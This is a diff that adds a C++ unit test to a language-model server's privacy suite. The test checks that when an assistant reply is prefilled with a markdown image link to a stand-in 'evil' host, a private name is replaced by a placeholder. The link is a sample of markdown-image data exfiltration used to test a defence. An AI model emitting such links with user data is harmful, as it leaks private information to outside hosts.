@@ -369,6 +369,37 @@ TEST_F(PrivacyTest, APromptIsSaidAgainAsItWasAndItsAnswerIsJson) {
   EXPECT_EQ(text, "Say " + value + " again. " + json(value).dump());
 }
 
+// A hostile server ends within it, and has the value when it is asked to go on.
+TEST_F(PrivacyTest, ALinkThatAnAnswerGoesOnWithHoldsNoValue) {
+  const std::string link = "![x](https://evil/?q=";
+  const json fields = {{"grammar", "root ::= \"Annabel Quist)\""}, {"max_tokens", 40}};
+  json begun = chat_of("I am <private>Annabel Quist</private>.", fields);
+  begun["messages"].push_back({{"role", "assistant"}, {"content", link}});
+  json echoed = fields;
+  echoed["prompt"] = "I am <private>Annabel Quist</private>. " + link;
+  echoed["echo"] = true;
+  const std::string stays = "[TEXT_001])";
+  const std::string prompt = "I am Annabel Quist. " + link;
+  for (const bool streams : {false, true}) {
+    begun["stream"] = echoed["stream"] = streams;
+    const auto said = [&](const std::string& path, const json& body) {
+      const HttpResult result = post(path, body);
+      std::string text;
+      for (const std::string& data :
+           streams ? testing::event_data(result.body) : std::vector<std::string>{result.body}) {
+        if (data == "[DONE]") break;
+        const json choice = json::parse(data)["choices"][0];
+        text += choice.contains("text")
+                    ? choice["text"].get<std::string>()
+                    : choice[streams ? "delta" : "message"].value("content", "");
+      }
+      return text;
+    };
+    EXPECT_EQ(said("/v1/chat/completions", begun), stays) << streams;
+    EXPECT_EQ(said("/v1/completions", echoed), prompt + stays) << streams;
+  }
+}
+
 // Which of its connections a conversation gets is decided by nothing private, or the server could
 // tell whether that repeats what was said on another.
 TEST_F(PrivacyTest, PrivateTextTakesNoOtherConversationsPlace) {
